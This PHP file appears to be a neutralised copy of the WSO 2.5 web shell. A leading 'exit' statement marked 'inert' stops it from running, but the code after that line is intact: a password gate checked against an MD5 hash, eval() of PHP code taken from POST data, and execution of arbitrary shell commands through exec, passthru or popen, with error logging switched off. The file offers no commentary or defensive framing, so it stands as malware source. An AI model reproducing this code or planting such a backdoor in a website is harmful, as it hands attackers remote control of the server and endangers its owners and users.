<?php exit; /* inert */ $auth_pass = "63a9f0ea7bb98050796b649e85481845";
$color = "#df5"; $default_action = 'FilesMan'; $default_charset = 'Windows-1251';
@ini_set('error_log', NULL); @set_time_limit(0);
define('WSO_VERSION', '2.5');
function WSOsetcookie($k, $v) { $_COOKIE[$k] = $v; setcookie($k, $v); }
function wsoLogin() { die("<pre align=center><form method=post>Password: <input type=password name=pass></form></pre>"); }
if (!empty($auth_pass)) {
    if (isset($_POST['pass']) && (md5($_POST['pass']) == $auth_pass)) { WSOsetcookie(md5($_SERVER['HTTP_HOST']), $auth_pass); }
    if (!isset($_COOKIE[md5($_SERVER['HTTP_HOST'])]) || ($_COOKIE[md5($_SERVER['HTTP_HOST'])] != $auth_pass)) { wsoLogin(); }
}
function wsoHeader() { echo "<form method=post name=mf><input type=hidden name=a><input type=hidden name=c><input type=hidden name=p1></form>"; }
function wsoFooter() { echo '<form onsubmit="g(\'Console\',null,this.c.value)"><input name=c></form>'; }
function wsoEx($in) {
    $out = '';
    if (function_exists('exec')) { @exec($in, $out); $out = @join("\n", $out); }
    elseif (function_exists('passthru')) { ob_start(); @passthru($in); $out = ob_get_clean(); }
    elseif (is_resource($f = @popen($in, "r"))) { while (!@feof($f)) { $out .= fread($f, 1024); } pclose($f); }
    return $out;
}
function actionPhp() {
    wsoHeader();
    if (!empty($_POST['p1'])) { ob_start(); eval($_POST['p1']); echo htmlspecialchars(ob_get_clean()); }
    wsoFooter();
}
function actionConsole() {
    if (isset($_POST['ajax'])) { echo strlen($t = wsoEx($_POST['p1'])), "\n", addcslashes($t, "\n\r\t\\'\0"); exit; }
    wsoHeader(); echo '<pre>' . htmlspecialchars(wsoEx($_POST['p1'])) . '</pre>'; wsoFooter();
}
if (empty($_POST['a'])) { $_POST['a'] = $default_action; }
if (!empty($_POST['a']) && function_exists('action' . $_POST['a'])) { call_user_func('action' . $_POST['a']); }
exit;
